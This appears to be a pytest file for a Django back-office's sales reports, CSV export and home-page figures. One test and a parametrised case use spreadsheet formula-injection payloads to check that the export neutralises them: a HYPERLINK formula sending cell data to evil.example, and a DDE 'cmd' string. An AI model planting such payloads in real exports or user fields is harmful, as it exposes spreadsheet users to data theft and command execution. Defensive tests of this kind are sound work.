"""Report sums against a hand-computed fixture, the CSV export, and the home page's figures."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from backoffice import selectors
from orders.models import ForwardState, Order, Status


def at(day: int, hour: int = 12) -> datetime:
    return timezone.make_aware(datetime(2026, 3, day, hour))


@pytest.fixture
def book(make_service, provider, customer):
    """Five orders over two days and two customers, with every cost rule exercised:
    reported cost, expected cost, a Partial's delivered share, a Canceled's zero."""
    service = make_service("Default")
    other = User.objects.create(username="second")

    def order(user, day, charge, refunded, status, cost_expected, cost_actual=None, quantity=1000, remains=None):
        o = Order.objects.create(
            user=user,
            service=service,
            provider=provider,
            upstream_service_id="1",
            quantity=quantity,
            charge=Decimal(charge),
            refunded=Decimal(refunded),
            status=status,
            cost_expected=Decimal(cost_expected),
            cost_actual=None if cost_actual is None else Decimal(cost_actual),
            remains=remains,
            forward_state=ForwardState.SENT,
        )
        Order.objects.filter(pk=o.pk).update(created_at=at(day))
        return o

    order(customer, 1, "10.00000", "0", Status.COMPLETED, "6.00000", cost_actual="5.50000")
    order(customer, 1, "4.00000", "0", Status.IN_PROGRESS, "2.00000")
    order(other, 1, "8.00000", "8.00000", Status.CANCELED, "4.00000")
    order(other, 2, "20.00000", "5.00000", Status.PARTIAL, "12.00000", remains=250)
    order(customer, 2, "3.00000", "0", Status.COMPLETED, "1.00000", cost_actual="1.20000")
    order(customer, 5, "99.00000", "0", Status.COMPLETED, "1.00000")  # outside the period
    return service


# By hand, 1-2 March 2026:
#   day 1: revenue 10 + 4 + 0 = 14; cost 5.5 + 2 + 0 = 7.5; profit 6.5 (3 orders)
#   day 2: revenue 15 + 3 = 18; cost 12 x 750/1000 = 9 + 1.2 = 10.2; profit 7.8 (2 orders)
#   buyer: revenue 10 + 4 + 3 = 17, cost 5.5 + 2 + 1.2 = 8.7, profit 8.3
#   second: revenue 0 + 15 = 15, cost 0 + 9 = 9, profit 6
D = Decimal


def test_report_by_day_matches_the_hand_computed_sums(book):
    rows = selectors.report(date(2026, 3, 1), date(2026, 3, 2), "day")
    assert [(r["label"], r["orders"], r["revenue"], r["cost"], r["profit"]) for r in rows] == [
        (date(2026, 3, 1), 3, D("14"), D("7.5"), D("6.5")),
        (date(2026, 3, 2), 2, D("18"), D("10.2"), D("7.8")),
    ]


def test_report_by_customer_provider_and_service(book, provider):
    by_customer = {
        r["label"]: (r["revenue"], r["cost"], r["profit"])
        for r in selectors.report(date(2026, 3, 1), date(2026, 3, 2), "customer")
    }
    assert by_customer == {"buyer": (D("17"), D("8.7"), D("8.3")), "second": (D("15"), D("9"), D("6"))}
    (only,) = selectors.report(date(2026, 3, 1), date(2026, 3, 2), "provider")
    assert (only["label"], only["orders"], only["revenue"], only["cost"], only["profit"]) == (
        "sim",
        5,
        D("32"),
        D("17.7"),
        D("14.3"),
    )
    (svc,) = selectors.report(date(2026, 3, 1), date(2026, 3, 2), "service")
    assert svc["label"] == book.name and svc["profit"] == D("14.3")
    total = selectors.totals(selectors.orders_between(date(2026, 3, 1), date(2026, 3, 2)))
    assert (total.orders, total.revenue, total.cost, total.profit) == (5, D("32"), D("17.7"), D("14.3"))


def test_reports_page_and_csv(as_admin, book):
    query = {"start": "2026-03-01", "end": "2026-03-02", "by": "day"}
    page = as_admin.get(reverse("admin:bo_reports"), query)
    assert page.status_code == 200
    assert b"chart-4.6.1.umd.min.js" in page.content and b"bo-chart-data" in page.content
    assert b"14.30" in page.content
    response = as_admin.get(reverse("admin:bo_reports_csv"), {**query, "by": "customer"})
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["customer", "orders", "revenue", "cost", "profit"]
    assert rows[1:] == [
        ["buyer", "3", "17.00000", "8.70000", "8.30000"],
        ["second", "2", "15.00000", "9.00000", "6.00000"],
    ]


def test_reports_csv_neutralises_names_that_a_spreadsheet_would_run(as_admin, book, customer):
    """A customer picks their own name; in the export it must be text, not a formula. Our own
    numbers stay numbers, even negative ones."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    User.objects.filter(username="second").update(username=formula)
    User.objects.filter(pk=customer.pk).update(username="@SUM(1+1)")
    Order.objects.filter(user=customer, cost_actual="1.20000").update(cost_actual=Decimal("12.00000"))
    query = {"start": "2026-03-01", "end": "2026-03-02", "by": "customer"}
    rows = list(csv.reader(io.StringIO(as_admin.get(reverse("admin:bo_reports_csv"), query).content.decode())))
    assert sorted(rows[1:]) == sorted(
        [
            ["'@SUM(1+1)", "3", "17.00000", "19.50000", "-2.50000"],
            ["'" + formula, "2", "15.00000", "9.00000", "6.00000"],
        ]
    )


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain name", "plain name"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (-3, -3),
        (None, None),
        (date(2026, 3, 1), date(2026, 3, 1)),
    ],
)
def test_spreadsheet_safe_touches_only_text_that_starts_a_formula(value, written):
    from panel.security import spreadsheet_safe

    assert spreadsheet_safe(value) == written


def test_the_safe_writer_writes_negative_amounts_as_numbers():
    from panel.security import SpreadsheetSafeWriter

    out = io.StringIO()
    SpreadsheetSafeWriter(out).writerows([["-bad", Decimal("-5.00"), -2]])
    assert out.getvalue() == "'-bad,-5.00,-2\r\n"


def test_reports_refuse_a_backwards_period(as_admin):
    response = as_admin.get(reverse("admin:bo_reports_csv"), {"start": "2026-03-02", "end": "2026-03-01", "by": "day"})
    assert response.status_code == 400


def test_home_shows_today_month_attention_and_tasks(as_admin, place):
    from django_celery_beat.models import IntervalSchedule, PeriodicTask

    order = place()
    Order.objects.filter(pk=order.pk).update(needs_attention=True, attention_reason="Check it at sim")
    every, _ = IntervalSchedule.objects.get_or_create(every=15, period=IntervalSchedule.SECONDS)
    PeriodicTask.objects.update_or_create(
        name="Poll order statuses",
        defaults={"task": "orders.poll_orders", "interval": every, "last_run_at": timezone.now()},
    )
    PeriodicTask.objects.update_or_create(
        name="Stale task", defaults={"task": "orders.sweep", "interval": every, "last_run_at": at(1)}
    )
    home = selectors.home()
    assert home.today.orders == 1 and home.today.revenue == order.charge
    assert home.month.orders >= 1 and home.attention_count == 1
    late = {row["name"]: row["late"] for row in home.periodic}
    assert late["Poll order statuses"] is False and late["Stale task"] is True
    page = as_admin.get(reverse("admin:index")).content.decode()
    assert "Check it at sim" in page and "Poll order statuses" in page


def test_report_page_by_customer_shows_the_largest_rows_and_counts_the_others(as_admin, book, monkeypatch):
    """By customer the page reads only the rows it shows (here one, the most revenue) and how many
    there are; the CSV has every row. March is read from the customers' running totals per month
    (the month before and March itself), and the figures are the orders'."""
    from backoffice import views
    from orders.rollups import customer_plan

    march = (date(2026, 3, 1), date(2026, 3, 31))
    assert customer_plan(*march, date(2026, 12, 1)).through == date(2026, 3, 1)
    monkeypatch.setattr(views, "REPORT_ROWS", 1)
    query = {"start": "2026-03-01", "end": "2026-03-31", "by": "customer"}
    page = as_admin.get(reverse("admin:bo_reports"), query)
    assert page.status_code == 200
    assert page.context["rows"] == selectors.report_from_orders(*march, "customer")[:1]
    assert page.context["rows_hidden"] == 1
    html = page.content.decode()
    table = html.split('id="bo-report-table"')[1].split("</table>")[0]
    assert "buyer" in table and "second" not in table and "116.00" in table
    assert 'id="bo-report-more"' in html
    rows = list(csv.reader(io.StringIO(as_admin.get(reverse("admin:bo_reports_csv"), query).content.decode())))
    assert rows[1:] == [
        ["buyer", "4", "116.00000", "9.70000", "106.30000"],
        ["second", "2", "15.00000", "9.00000", "6.00000"],
    ]
